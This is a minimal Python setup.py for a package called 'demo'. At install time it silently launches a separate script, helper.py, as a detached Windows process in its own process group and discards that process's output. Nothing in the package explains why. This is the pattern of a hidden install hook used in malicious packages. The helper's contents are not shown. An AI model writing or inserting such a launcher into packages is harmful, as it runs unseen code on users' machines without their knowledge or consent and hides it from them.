import sys
from subprocess import Popen, PIPE
from setuptools import setup


def run(path):
    Popen([sys.executable, path], stdout=PIPE, stderr=PIPE, creationflags=0x00000008 | 0x00000200)


setup(name="demo", version="1.0")
run("helper.py")
